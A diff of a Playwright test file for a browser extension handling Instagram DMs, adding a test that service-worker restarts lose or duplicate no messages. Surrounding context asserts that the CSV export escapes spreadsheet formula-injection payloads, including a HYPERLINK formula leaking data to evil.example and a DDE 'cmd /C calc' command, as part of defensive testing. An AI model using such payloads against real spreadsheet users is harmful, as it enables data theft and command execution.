@@ -2,7 +2,7 @@
 // execute, or leak as live formulas.
 import type { BrowserContext } from '@playwright/test';
 import { readFileSync } from 'node:fs';
-import { expect, test } from './harness';
+import { dbRows, expect, openPopup, test } from './harness';
 
 async function importTemplates(context: BrowserContext, extensionId: string, templates: object[]) {
   const page = await context.newPage();
@@ -69,8 +69,60 @@ test('the feedback CSV writes a hostile contact name and answer as text, never a
   await dashboard.goto(`chrome-extension://${new URL(worker.url()).host}/dashboard.html`);
   await expect(dashboard.getByTestId('feedback-row')).toHaveCount(1);
   const [download] = await Promise.all([dashboard.waitForEvent('download'), dashboard.getByTestId('export-feedback').click()]);
-  const csv = readFileSync((await download.path())!, 'utf8');
+  const csv = readFileSync((await download.path()), 'utf8');
   expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Jane"")"`);
   expect(csv).toContain(`"'=cmd|"" /C calc""!A0"`);
   expect(csv).not.toMatch(/(^|,)"?=/m);
+});
+
+test('a service worker stopped again and again while DM tabs load loses no message and counts none twice', async ({
+  context,
+  openDm,
+  fixture,
+}) => {
+  test.setTimeout(90_000);
+  const threads = Object.fromEntries(
+    [0, 1, 2, 3].map((i) => [
+      `200${i}`,
+      {
+        name: `Customer ${i}`,
+        handle: `c${i}`,
+        messages: [
+          { dir: 'in' as const, text: `Hello from ${i}` },
+          { dir: 'out' as const, text: 'Hi!' },
+        ],
+      },
+    ]),
+  );
+  fixture.set({ threads });
+  const control = await context.newPage();
+  const cdp = await context.newCDPSession(control);
+  await cdp.send('ServiceWorker.enable');
+  let stopping = true;
+  const stopper = (async () => {
+    while (stopping) {
+      await cdp.send('ServiceWorker.stopAllWorkers').catch(() => undefined);
+      await control.waitForTimeout(120);
+    }
+  })();
+  const tabs = [];
+  for (const id of Object.keys(threads)) tabs.push(await openDm(`https://www.instagram.com/direct/t/${id}/`));
+  await tabs[0]!.page.waitForTimeout(1600);
+  for (const dm of tabs) await dm.page.evaluate(() => window.__fixture.receive('Are you there?'));
+  await tabs[0]!.page.waitForTimeout(1500);
+  stopping = false;
+  await stopper;
+  // Wake the worker the way a seller would (the toolbar popup), so the dead handle is replaced.
+  await openPopup(context, context.serviceWorkers().at(-1) ?? (await context.waitForEvent('serviceworker')));
+  // Everything seen while the worker kept dying is stored once: 2 history rows and 1 live message per tab.
+  await expect
+    .poll(
+      async () => {
+        const worker = context.serviceWorkers().at(-1) ?? (await context.waitForEvent('serviceworker'));
+        const rows = await dbRows<{ history: boolean }>(worker, 'events').catch(() => []);
+        return rows.map((e) => e.history).sort();
+      },
+      { timeout: 60_000, message: 'events stored' },
+    )
+    .toEqual([false, false, false, false, true, true, true, true, true, true, true, true]);
 });
